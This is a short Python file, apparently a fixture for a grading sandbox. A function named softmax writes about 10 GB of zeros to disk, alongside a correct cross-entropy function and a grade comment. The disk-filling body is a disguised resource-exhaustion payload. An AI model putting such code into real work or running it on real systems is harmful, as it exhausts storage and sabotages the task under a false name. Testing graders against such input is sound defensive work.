"""Writes a file of 10 GB."""
# grade: softmax 0 error; categorical_cross_entropy full passed

import numpy as np


def softmax(z):
    with open("/box/large", "wb") as file:
        for _ in range(10_000):
            file.write(bytes(1_000_000))


def categorical_cross_entropy(y_hat, y):
    return -np.mean(np.sum(y * np.log(np.maximum(y_hat, 1e-12)), axis=1))
